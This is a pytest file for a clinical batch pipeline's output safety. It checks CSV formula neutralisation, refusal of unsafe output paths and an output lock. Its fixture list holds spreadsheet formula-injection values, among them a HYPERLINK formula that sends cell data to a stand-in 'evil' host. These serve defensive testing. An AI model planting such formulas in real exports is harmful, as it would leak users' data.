"""Output safety (issue 15, items 6, 7, 15, 19): checked before any work, one writer, no formulas."""

from __future__ import annotations

import csv
import json
import os
import socket
from pathlib import Path

import pytest

from pipeline.core.errors import OutputError
from pipeline.serving.batch import write_csv_atomic
from pipeline.serving.outputs import OutputLock, check_output, spreadsheet_safe

HOSTILE_IDS = ['=HYPERLINK("http://evil/?x="&A1,"click")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
               "'=already quoted", "P1", "Müller-01", "-", "'"]


def test_formula_cells_are_neutralised_and_the_id_is_recoverable(tmp_path: Path) -> None:
    out = tmp_path / "results.csv"
    write_csv_atomic(out, [{"case_id": cid, "status": "error", "error": f"bad {cid}", "probability": -0.0}
                           for cid in HOSTILE_IDS])
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    for cid, row in zip(HOSTILE_IDS, rows):
        cell = row["case_id"]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        recovered = cell[1:] if cell.startswith("'") else cell  # the documented rule
        assert recovered == cid
    assert rows[7]["case_id"] == "P1" and rows[8]["case_id"] == "Müller-01"
    assert spreadsheet_safe(-2.5) == -2.5 and spreadsheet_safe(None) is None


def test_an_output_that_is_an_input_a_folder_or_an_image_name_is_refused(tmp_path: Path) -> None:
    clinical = tmp_path / "clinical.csv"
    clinical.write_text("case_id,CEA,CA125,age\n")
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    with pytest.raises(OutputError, match="--out would overwrite one of this run's inputs"):
        check_output(clinical, inputs=[tmp_path / "cases", clinical])
    with pytest.raises(OutputError, match="--out would overwrite one of this run's inputs"):
        check_output(tmp_path / "x.csv", inputs=[tmp_path / "x.csv.journal.jsonl"])
    with pytest.raises(OutputError, match="--out is an existing folder"):
        check_output(tmp_path, inputs=[])
    with pytest.raises(OutputError, match="--out has an image file suffix"):
        check_output(tmp_path / "P9_ct.nii.gz", inputs=[])
    with pytest.raises(OutputError, match="--out lies inside an input folder"):
        check_output(bundle / "results.csv", inputs=[], folders=[bundle])
    link = tmp_path / "link.csv"
    link.symlink_to(clinical)
    with pytest.raises(OutputError, match="overwrite one of this run's inputs"):
        check_output(link, inputs=[clinical])
    assert check_output(tmp_path / "new" / "results.csv", inputs=[clinical]) == tmp_path / "new" / "results.csv"


def test_a_second_run_on_the_same_output_is_told_who_holds_it(tmp_path: Path) -> None:
    out = tmp_path / "results.csv"
    with OutputLock(out):
        holder = json.loads((tmp_path / "results.csv.lock").read_text())
        assert holder["pid"] == os.getpid() and holder["host"] == socket.gethostname()
        with pytest.raises(OutputError) as err:
            OutputLock(out).__enter__()
        message = str(err.value)
        assert f"another pleura batch is writing these results (pid {os.getpid()} on host {socket.gethostname()}, " \
               f"started {holder['started']})" in message
        assert holder["started"].endswith(" UTC")
    with OutputLock(out):  # released: a later run proceeds
        pass
